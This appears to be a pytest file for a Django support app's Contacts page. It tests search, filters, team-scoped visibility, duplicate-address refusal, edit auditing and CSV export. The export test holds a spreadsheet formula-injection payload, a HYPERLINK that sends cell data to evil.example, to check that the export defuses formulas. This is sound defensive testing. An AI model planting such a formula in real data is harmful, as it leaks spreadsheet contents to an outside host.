"""The Contacts page: finding customers as the search box does, filtering by label, stage and a custom
attribute, only the teams' own customers, adding and editing one (an address already someone's is refused,
nothing merged), and the CSV export (formulas defused)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from contacts.models import AttributeDefinition, Contact, Identity, Label
from conversations.customers import contact_create, identity_attach
from conversations.models import Conversation
from events.models import DomainEvent
from lifecycle.directory import DirectoryFilters, contact_directory
from lifecycle.models import ContactOwner, Stage
from lifecycle.services import stage_move
from tests.conftest import sms_in

pytestmark = pytest.mark.django_db


@pytest.fixture
def dana(inbox_support: Any) -> Conversation:
    thread = sms_in(inbox_support, "Where is my order?", phone="+14155550142").conversation
    Contact.objects.filter(pk=thread.contact_id).update(name="Dana Whitaker", attributes={"plan": "gold"})
    Identity.objects.create(contact=thread.contact, kind="email", address="dana@shoes.example", verified=True)
    thread.refresh_from_db()
    return thread


@pytest.fixture
def omar(inbox_support: Any) -> Conversation:
    thread = sms_in(inbox_support, "Do you ship to Canada?", phone="+14155550199").conversation
    Contact.objects.filter(pk=thread.contact_id).update(name="Omar Haddad", attributes={"plan": "free"})
    thread.refresh_from_db()
    return thread


@pytest.fixture
def priya(inbox_sales: Any) -> Conversation:
    thread = sms_in(inbox_sales, "Team discount?", phone="+12125550187").conversation
    Contact.objects.filter(pk=thread.contact_id).update(name="Priya Natarajan")
    thread.refresh_from_db()
    return thread


def names(user: Any, **filters: Any) -> list[str]:
    page = contact_directory(user=user, filters=DirectoryFilters(**filters))
    return [row.contact.display_name for row in page.rows]


@pytest.mark.parametrize(
    "typed", ["0142", "415-555-0142", "(415) 555 0142", "+1 415 555 0142", "DANA@shoes", "whit"]
)
def test_a_customer_is_found_by_last_digits_a_phone_typed_any_way_email_or_name(
    dana: Any, omar: Any, agent_alice: Any, typed: str
) -> None:
    assert names(agent_alice, query=typed) == ["Dana Whitaker"]


def test_the_list_is_latest_activity_first_and_shows_each_customers_row(
    dana: Any, omar: Any, agent_alice: Any, alice_client: Client
) -> None:
    assert names(agent_alice) == ["Omar Haddad", "Dana Whitaker"]
    vip = Label.objects.create(name="VIP", color="#b42318")
    dana.contact.labels.add(vip)
    stage_move(contact=dana.contact, stage=Stage.objects.get(key="customer"), by=None)
    ContactOwner.objects.update_or_create(
        contact=dana.contact, defaults={"owner": agent_alice, "since": dana.created_at}
    )
    page = alice_client.get("/contacts/").content.decode()
    row = page.split(f'data-contact="{dana.contact_id}"', 1)[1].split("</tr>", 1)[0]
    assert f'href="/inbox/{dana.pk}/"' in row
    for shown in ("Dana Whitaker", "+14155550142", "dana@shoes.example", "Customer", "VIP", "Alice"):
        assert shown in row, shown


def test_filters_by_label_stage_and_a_custom_attribute(dana: Any, omar: Any, agent_alice: Any) -> None:
    vip = Label.objects.create(name="VIP")
    omar.contact.labels.add(vip)
    stage_move(contact=dana.contact, stage=Stage.objects.get(key="customer"), by=None)
    AttributeDefinition.objects.create(key="plan", label="Plan")
    assert names(agent_alice, label_id=vip.pk) == ["Omar Haddad"]
    assert names(agent_alice, stage_key="customer") == ["Dana Whitaker"]
    assert names(agent_alice, attribute_key="plan", attribute_value="gold") == ["Dana Whitaker"]
    assert names(agent_alice, attribute_key="plan", attribute_value="gold", label_id=vip.pk) == []
    assert names(agent_alice, stage_key="no-such-stage") == []
    assert names(agent_alice, sort="name") == ["Dana Whitaker", "Omar Haddad"]
    assert names(agent_alice, sort="created") == ["Omar Haddad", "Dana Whitaker"]


def test_agents_see_their_teams_customers_managers_everyone_and_other_ids_are_not_found(
    dana: Any, priya: Any, agent_alice: Any, manager_maria: Any, alice_client: Client
) -> None:
    assert names(agent_alice) == ["Dana Whitaker"]
    assert names(agent_alice, query="0187") == []
    assert sorted(names(manager_maria)) == ["Dana Whitaker", "Priya Natarajan"]
    hidden = alice_client.get(f"/contacts/{priya.contact_id}/")
    missing = alice_client.get("/contacts/999999/")
    assert hidden.status_code == missing.status_code == 404
    assert alice_client.get(f"/contacts/{dana.contact_id}/").status_code == 200
    export = b"".join(alice_client.get("/contacts/export.csv").streaming_content)  # type: ignore[attr-defined]
    assert b"Dana Whitaker" in export and b"Priya" not in export


def test_an_agent_adds_a_customer_who_their_team_then_sees(agent_alice: Any, inbox_support: Any) -> None:
    contact = contact_create(
        by=agent_alice, name="  Lena   Fischer ", phone="(415) 555-0123", email="Lena@Example.com"
    )
    assert contact.name == "Lena Fischer"
    assert sorted(contact.identities.values_list("kind", "address")) == [
        ("email", "lena@example.com"),
        ("phone", "+14155550123"),
    ]
    assert names(agent_alice, query="0123") == []  # no inbox given: no team of hers holds them yet
    other = contact_create(by=agent_alice, name="Tom Berg", phone="+1 415 555 0124", inbox=inbox_support)
    assert names(agent_alice, query="0124") == ["Tom Berg"]
    thread = Conversation.objects.get(contact=other)
    assert thread.status == Conversation.RESOLVED  # nothing to answer yet: not in the open list
    assert thread.entries.get(event_type="contact.created").body.startswith("Alice added this customer")
    assert DomainEvent.objects.filter(type="contact.created", contact_id=other.pk).count() == 1


def test_an_address_that_is_already_someones_is_refused_naming_them_and_nothing_is_made(
    dana: Any, priya: Any, agent_alice: Any, alice_client: Client
) -> None:
    before = Contact.objects.count()
    response = alice_client.post("/contacts/new/", {"name": "Dana again", "phone": "415 555 0142"})
    assert response.status_code == 400
    assert "+14155550142 already belongs to Dana Whitaker" in response.content.decode()
    response = alice_client.post("/contacts/new/", {"name": "Someone", "email": "DANA@shoes.example"})
    assert "dana@shoes.example already belongs to Dana Whitaker" in response.content.decode()
    # Another team's customer is not named to her.
    response = alice_client.post("/contacts/new/", {"name": "Someone else", "phone": "+12125550187"})
    text = response.content.decode()
    assert "already belongs to another customer" in text and "Priya" not in text.split("<main", 1)[1]
    assert Contact.objects.count() == before
    # Adding the same address to another customer from their page is refused too.
    mine = contact_create(by=agent_alice, name="Lena Fischer", inbox=dana.last_inbound_inbox)
    page = alice_client.post(
        f"/contacts/{mine.pk}/", {"form": "identity", "kind": "phone", "address": "+1 (415) 555-0142"}
    )
    assert page.status_code == 400 and "already belongs to Dana Whitaker" in page.content.decode()
    assert not Identity.objects.filter(contact=mine).exists()


def test_editing_a_customer_records_who_changed_what(
    dana: Any, agent_alice: Any, alice_client: Client
) -> None:
    AttributeDefinition.objects.create(key="plan", label="Plan")
    response = alice_client.post(
        f"/contacts/{dana.contact_id}/", {"form": "details", "name": "Dana W.", "attr_plan": "platinum"}
    )
    assert response.status_code == 302
    dana.contact.refresh_from_db()
    assert (dana.contact.name, dana.contact.attributes["plan"]) == ("Dana W.", "platinum")
    identity_attach(contact=dana.contact, kind="email", address="dana@work.example", by=agent_alice)
    updates = DomainEvent.objects.filter(type="contact.updated", contact_id=dana.contact_id)
    assert [event.payload["fields"] for event in updates.order_by("id")] == [
        ["name", "attributes"],
        ["identities"],
    ]


def test_the_csv_export_is_the_filtered_list_with_formulas_defused(
    dana: Any, omar: Any, alice_client: Client
) -> None:
    Contact.objects.filter(pk=omar.contact_id).update(name='=HYPERLINK("https://evil.example/?"&A1,"x")')
    response = alice_client.get("/contacts/export.csv", {"q": "555"})  # 3 digits: a name search, none
    assert list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))[1:] == []
    response = alice_client.get("/contacts/export.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:4] == ["id", "name", "phone", "email"]
    by_phone = {row[2]: row for row in rows[1:]}
    assert by_phone["+14155550199"][1] == '\'=HYPERLINK("https://evil.example/?"&A1,"x")'
    assert by_phone["+14155550142"][1:4] == ["Dana Whitaker", "+14155550142", "dana@shoes.example"]
    only_dana = alice_client.get("/contacts/export.csv", {"q": "0142"})
    assert len(list(csv.reader(io.StringIO(b"".join(only_dana.streaming_content).decode())))) == 2
